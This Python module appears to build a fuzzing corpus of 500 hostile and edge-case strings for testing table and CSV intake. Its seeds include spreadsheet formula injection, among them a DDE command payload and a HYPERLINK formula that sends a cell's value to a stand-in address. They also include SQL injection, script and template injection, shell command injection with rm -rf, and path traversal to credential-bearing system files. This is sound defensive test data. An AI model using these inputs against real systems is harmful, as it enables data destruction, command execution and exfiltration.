"""Five hundred strings that people and programs put into tables, and that break those who trust them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

_SEEDS: Final = (
    "undefined", "null", "None", "NaN", "Infinity", "true", "-1", "0x0", "1e309", "1/0", "1,000",
    "1.5E+10", "=1+1", '=HYPERLINK("http://192.0.2.1/?"&A1;"x")', "+1", "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0", "＝1", "#REF!", "#N/A", "' OR 1=1 --", "'; DROP TABLE callers; --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${7*7}", "{{7*7}}", "$(touch x)",
    "`id`", "; rm -rf x", "| cat", "%s%s%n", "%00", "\\u0000", "../../etc/passwd", "..", ".",
    "C:\\Windows\\win.ini", "\\\\server\\share", "/dev/zero", "/proc/self/environ", "~/x",
    "file:///x", "CON", "nul.txt", "COM1", "a\x00b", "a\x07b", "a\x1b[2Jb", "a\x1b]0;t\x07",
    "a\x7fb", "a\x85b", "a\u2028b", "a\u2029b", "a\nb", "a\rb", "a\r\nb", "a\tb", "\u202eabc",
    "a\u2066b", "a\u200bb", "a\u200db", "\ufeffa", "a\u00adb", "a\ufffdb", "\ue000", "\uffff",
    "\U000e0041", "\U0010ffff", "ﷺ" * 40, "Z̸̛̗͓̾a̵͚̒l̶̖͐g̷͉͑o̴̟͝", "😀👩‍👩‍👧", "🇩🇪", "田中さん", "שלום",
    "مرحبا", "ٱلسَّلَامُ", "İstanbul", "ﬁ", "ſ", "pаypal", "Ωmega", "x" * 2000, "x" * 300, '"',
    '""', '"open', 'a"b', "'", ",", ";", ";;;;", "\\", "\\\\", "a,b;c", "name@example.org",
    "+49 30 123456", "7K3M-9QWX-2BDF-4GHJ-5NPR-6T8T", "7k3m 9qwx 2bdf 4ghj 5npr 6t8t", "http://",
    "https://intake.example/path?x", "javascript:alert(1)", "data:text/html,x", "17", "2008-01-01",
    "under 18 or so", "parent", "myself", "xx-klingon", "de_DE.UTF-8", "flips,none", "everything",
)  # fmt: skip


def strings() -> list[str]:
    """Exactly 500, each once: the seeds, and the seeds dressed as tables dress them."""
    dresses = ("{}", " {}", "{} ", "{0}{0}", "x{}", "{}x")
    dressed = [dress.replace("{0}", "{}").replace("{}", seed) for dress in dresses for seed in _SEEDS]
    return list(dict.fromkeys(dressed))[:500]


def from_outside(shared: Path) -> list[str]:
    """The well-known list of naughty strings, where it is."""
    found: list[str] = json.loads((shared / "corpus" / "naughty-strings.json").read_text(encoding="utf-8"))
    return found
